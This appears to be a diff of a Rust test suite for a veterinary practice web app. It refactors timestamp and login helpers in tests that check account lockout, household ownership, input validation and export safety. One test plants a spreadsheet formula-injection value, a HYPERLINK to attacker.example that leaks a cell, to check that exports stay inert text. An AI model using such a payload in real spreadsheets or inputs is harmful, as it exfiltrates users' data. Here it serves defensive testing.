@@ -6,13 +6,9 @@
 use chrono::Duration;
 use petbridge_domain::db::entities::delivery::DeliveryStatus;
 use petbridge_domain::{db::entities::delivery, kernel::permissions::SecurityLevel};
-use petbridge_tests::{PASSWORD, TestApp, hidden_field, spawn_app};
+use petbridge_tests::{PASSWORD, TestApp, at, hidden_field, spawn_app};
 use reqwest::Method;
 use serde_json::{Value, json};
-
-fn at(app: &TestApp, minutes: i64) -> String {
-    (app.clock_now() + Duration::minutes(minutes)).to_rfc3339()
-}
 
 /// Everything a staff member can read about deliveries: the API list and
 /// each delivery, and the Outbox page.
@@ -91,8 +87,8 @@ async fn an_unverified_sign_up_owns_nothing_of_the_pms_household_and_the_real_ow
     let key = app.sync_key(&fixture.practice).await;
     let admin = app.login("maple-vets", "admin").await;
     let household = json!({
-        "clients": [{ "pms_id": "C1", "updated_at": at(&app, 0), "first_name": "Rosa", "last_name": "Real", "email": "rosa@example.com", "last_transaction_on": app.clock_now().date_naive() }],
-        "pets": [{ "pms_id": "P1", "updated_at": at(&app, 0), "client_pms_id": "C1", "name": "Roxy", "species": "Dog" }],
+        "clients": [{ "pms_id": "C1", "updated_at": at(app.clock_now(), 0), "first_name": "Rosa", "last_name": "Real", "email": "rosa@example.com", "last_transaction_on": app.clock_now().date_naive() }],
+        "pets": [{ "pms_id": "P1", "updated_at": at(app.clock_now(), 0), "client_pms_id": "C1", "name": "Roxy", "species": "Dog" }],
     });
     assert_eq!(app.sync(&key, &household).await.0, 200);
 
@@ -108,7 +104,7 @@ async fn an_unverified_sign_up_owns_nothing_of_the_pms_household_and_the_real_ow
     assert_eq!(status, 403);
 
     // The next sync does not hand it the household either.
-    let later = json!({ "clients": [{ "pms_id": "C1", "updated_at": at(&app, 1), "first_name": "Rosa", "last_name": "Real", "email": "rosa@example.com", "last_transaction_on": app.clock_now().date_naive() }] });
+    let later = json!({ "clients": [{ "pms_id": "C1", "updated_at": at(app.clock_now(), 1), "first_name": "Rosa", "last_name": "Real", "email": "rosa@example.com", "last_transaction_on": app.clock_now().date_naive() }] });
     assert_eq!(app.sync(&key, &later).await.0, 200);
     let (_, list) = app.get_json("/api/dashboard/v1/clients?search=rosa@example.com", &admin).await;
     let pms_row = list["items"].as_array().unwrap().iter().find(|r| r["first_name"] == "Rosa").unwrap().clone();
@@ -158,11 +154,6 @@ async fn override_call(app: &TestApp, staff: &str, approver: &str, password: &st
     (response.status().as_u16(), response.json().await.unwrap_or(Value::Null))
 }
 
-async fn login_status(app: &TestApp, user: &str, password: &str) -> u16 {
-    let body = json!({ "practice": "maple-vets", "username": user, "password": password });
-    app.client.post(app.url("/api/dashboard/v1/auth/login")).json(&body).send().await.unwrap().status().as_u16()
-}
-
 async fn locked(app: &TestApp, admin: &str, user: &str) -> (bool, u64) {
     let (_, users) = app.get_json("/api/dashboard/v1/users", admin).await;
     let row = users.as_array().unwrap().iter().find(|u| u["username"] == user).unwrap().clone();
@@ -184,7 +175,7 @@ async fn ten_wrong_override_passwords_lock_the_approver_as_ten_wrong_logins_woul
     let mut answers = Vec::new();
     for n in 0..9 {
         answers.push(override_call(&app, &staff, "manager", &format!("wrong guess {n}")).await);
-        assert_eq!(login_status(&app, "other", &format!("wrong guess {n}")).await, 401);
+        assert_eq!(app.login_attempt("maple-vets", "other", &format!("wrong guess {n}")).await.0, 401);
     }
     answers.push(override_call(&app, &staff, "nobody", "wrong guess").await);
     for (status, body) in &answers {
@@ -196,11 +187,11 @@ async fn ten_wrong_override_passwords_lock_the_approver_as_ten_wrong_logins_woul
 
     // The tenth wrong try locks both alike: the right password no longer helps.
     assert_eq!(override_call(&app, &staff, "manager", "wrong guess 9").await.0, 403);
-    assert_eq!(login_status(&app, "other", "wrong guess 9").await, 401);
+    assert_eq!(app.login_attempt("maple-vets", "other", "wrong guess 9").await.0, 401);
     assert_eq!(locked(&app, &admin, "manager").await, (true, 10));
     assert_eq!(locked(&app, &admin, "other").await, (true, 10));
     assert_eq!(override_call(&app, &staff, "manager", PASSWORD).await.1["code"], "override_refused");
-    assert_eq!(login_status(&app, "manager", PASSWORD).await, 401);
+    assert_eq!(app.login_attempt("maple-vets", "manager", PASSWORD).await.0, 401);
     let (_, refused) = app.get_json("/api/dashboard/v1/activity?action=auth.override_refused&limit=50", &admin).await;
     // Nine wrong, one unknown approver, the tenth wrong, the right password on the locked account.
     assert_eq!(refused["items"].as_array().unwrap().len(), 12);
@@ -287,7 +278,7 @@ async fn a_client_named_like_a_formula_round_trips_the_users_export_as_text() {
     let key = app.sync_key(&fixture.practice).await;
     let formula = r#"=HYPERLINK("http://attacker.example/?leak="&A2,"Click")"#;
     let batch = json!({ "clients": [
-        { "pms_id": "F1", "updated_at": at(&app, 0), "first_name": "@SUM(1+1)", "last_name": formula, "email": "f@example.com", "phone": "+15555550100", "last_transaction_on": app.clock_now().date_naive() }
+        { "pms_id": "F1", "updated_at": at(app.clock_now(), 0), "first_name": "@SUM(1+1)", "last_name": formula, "email": "f@example.com", "phone": "+15555550100", "last_transaction_on": app.clock_now().date_naive() }
     ] });
     assert_eq!(app.sync(&key, &batch).await.0, 200);
     let admin = app.login("maple-vets", "admin").await;
@@ -367,7 +358,7 @@ async fn opening_the_chat_page_for_a_client_creates_nothing_and_sync_key_rotatio
     let app = spawn_app().await;
     let fixture = app.practice("maple-vets").await;
     let key = app.sync_key(&fixture.practice).await;
-    let batch = json!({ "clients": [{ "pms_id": "C1", "updated_at": at(&app, 0), "first_name": "Cleo", "last_name": "Client", "last_transaction_on": app.clock_now().date_naive() }] });
+    let batch = json!({ "clients": [{ "pms_id": "C1", "updated_at": at(app.clock_now(), 0), "first_name": "Cleo", "last_name": "Client", "last_transaction_on": app.clock_now().date_naive() }] });
     assert_eq!(app.sync(&key, &batch).await.0, 200);
     let admin = app.login("maple-vets", "admin").await;
     let (_, list) = app.get_json("/api/dashboard/v1/clients", &admin).await;
@@ -467,7 +458,7 @@ async fn a_number_or_boolean_where_text_belongs_is_a_400_and_control_characters_
 
     // Nested fields are named by their path; staff input is held to the same rules.
     let key = app.sync_key(&fixture.practice).await;
-    let batch = json!({ "clients": [{ "pms_id": 7, "updated_at": at(&app, 0), "last_name": "Seven" }] });
+    let batch = json!({ "clients": [{ "pms_id": 7, "updated_at": at(app.clock_now(), 0), "last_name": "Seven" }] });
     let (status, body) = app.sync(&key, &batch).await;
     assert_eq!((status, body["code"].as_str()), (400, Some("invalid_type")), "{body}");
     assert!(body["detail"].as_str().unwrap().contains("`clients[0].pms_id`"), "{body}");
